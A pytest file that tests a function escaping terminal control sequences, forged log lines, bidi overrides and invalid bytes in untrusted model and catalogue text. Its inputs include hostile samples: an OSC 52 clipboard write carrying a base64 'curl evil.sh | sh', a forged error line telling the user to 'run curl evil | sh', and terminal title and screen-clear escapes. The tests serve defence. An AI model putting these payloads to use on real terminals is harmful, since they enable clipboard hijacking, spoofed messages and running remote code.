"""neutralise: model and catalogue text cannot drive a terminal or forge our lines (issue 16, finding 5)."""

from __future__ import annotations

import pytest

from medigan_iso.untrusted import MAX_CHARS, neutralise


def _only_printable(text: str) -> bool:
    return all(ch.isprintable() for ch in text)


def test_plain_text_is_returned_unchanged() -> None:
    text = "RuntimeError: CUDA out of memory (ÿ, 画像)"
    assert neutralise(text) == text


def test_osc52_clipboard_write_is_escaped() -> None:
    hostile = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
    out = neutralise(hostile)
    assert "\x1b" not in out and "\x07" not in out
    assert out == "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07"


def test_title_change_with_string_terminator_is_escaped() -> None:
    out = neutralise("\x1b]0;pwned\x1b\\ done")
    assert out == "\\x1b]0;pwned\\x1b\\ done"
    assert _only_printable(out)


def test_screen_clear_and_cursor_moves_are_escaped() -> None:
    out = neutralise("\x1b[2J\x1b[H\x1b[3J\rgone")
    assert out == "\\x1b[2J\\x1b[H\\x1b[3J\\x0dgone"


def test_forged_error_line_after_a_newline_stays_on_the_same_line() -> None:
    out = neutralise("boom\nmedigan-iso: error: your token expired, run curl evil | sh")
    assert "\n" not in out
    assert out == "boom\\x0amedigan-iso: error: your token expired, run curl evil | sh"


def test_multiline_keeps_lines_but_no_untrusted_line_starts_at_column_zero() -> None:
    out = neutralise("Traceback:\r\n  File x\nmedigan-iso: error: forged\x1b[2K", multiline=True)
    lines = out.split("\n")
    assert lines[0] == "Traceback:"
    assert all(line.startswith("  | ") for line in lines[1:])
    assert lines[2] == "  | medigan-iso: error: forged\\x1b[2K"
    assert "\r" not in out


def test_c1_controls_are_escaped() -> None:
    # U+009B is the 8-bit CSI: some terminals honour it like ESC [
    out = neutralise("a\x9b2Jb\x9d0;t\x9c")
    assert out == "a\\x9b2Jb\\x9d0;t\\x9c"


def test_bidi_overrides_and_invisible_format_characters_are_escaped() -> None:
    out = neutralise("safe\u202eexe.txt\u2066x\u2069\u200b\ufeff\u2028")
    assert out == "safe\\u202eexe.txt\\u2066x\\u2069\\u200b\\ufeff\\u2028"


def test_non_utf8_bytes_become_visible_byte_escapes() -> None:
    out = neutralise(b"ok \xff\xfe\x1b[31m \xe2\x82\xac")
    assert out == "ok \\xff\\xfe\\x1b[31m €"


def test_lone_surrogates_from_surrogateescape_show_the_original_byte() -> None:
    text = b"bad \xc3(".decode("utf-8", "surrogateescape")
    assert neutralise(text) == "bad \\xc3("


def test_huge_input_is_capped_with_a_marker() -> None:
    huge = "A" * (50 * 1024 * 1024)
    out = neutralise(huge, max_chars=100)
    assert out == "A" * 100 + f"…[+{len(huge) - 100} chars]"
    assert len(neutralise(huge)) < MAX_CHARS + 40


def test_escapes_count_towards_the_cap() -> None:
    out = neutralise("\x1b" * 10_000, max_chars=40)
    assert out == "\\x1b" * 10 + "…[+9990 chars]"


def test_huge_bytes_are_capped_and_counted_in_bytes() -> None:
    data = "é".encode() * 1_000_000
    out = neutralise(data, max_chars=10)
    assert out == "é" * 10 + f"…[+{len(data) - 20} bytes]"


def test_non_string_objects_use_their_str() -> None:
    assert neutralise(ValueError("x\x1by")) == "x\\x1by"
    assert neutralise(None) == "None"


def test_an_object_whose_str_raises_still_yields_a_line() -> None:
    class Hostile:
        def __str__(self) -> str:
            raise RuntimeError("no")

    assert neutralise(Hostile()) == "<unprintable Hostile: RuntimeError>"


CONTROLS = [*range(0x00, 0x20), 0x7F, *range(0x80, 0xA0), 0x2028, 0x2029, 0x202A, 0x2067]


@pytest.mark.parametrize("code", CONTROLS)
def test_no_control_character_survives(code: int) -> None:
    out = neutralise(f"x{chr(code)}y")
    assert _only_printable(out)
    assert chr(code) not in out


def test_every_module_logger_of_the_package_neutralises_its_arguments() -> None:
    import importlib
    import logging
    import pkgutil

    import medigan_iso
    from medigan_iso.untrusted import NeutralisingFilter

    checked = []
    for info in pkgutil.walk_packages(medigan_iso.__path__, "medigan_iso."):
        if info.name.endswith("__main__"):  # importing it runs the CLI
            continue
        try:
            module = importlib.import_module(info.name)
        except ImportError:  # an optional extra (an ASGI framework, matplotlib) is not installed
            continue
        for value in vars(module).values():
            if isinstance(value, logging.Logger) and value.name == info.name:
                assert any(isinstance(f, NeutralisingFilter) for f in value.filters), info.name
                checked.append(info.name)
    assert "medigan_iso.runner_process" in checked and "medigan_iso.catalogue" in checked


def test_the_filter_escapes_record_arguments_but_keeps_numbers() -> None:
    import logging

    from medigan_iso.untrusted import get_logger

    logger = get_logger("medigan_iso.test_untrusted_probe")
    records: list[logging.LogRecord] = []

    class Keep(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            records.append(record)

    handler = Keep()
    logger.addHandler(handler)
    try:
        logger.warning("model %s took %.1f s", "evil\x1b]0;x\x07\nmedigan-iso: error: forged", 1.25)
    finally:
        logger.removeHandler(handler)
    assert records[0].getMessage() == "model evil\\x1b]0;x\\x07\\x0amedigan-iso: error: forged took 1.2 s"
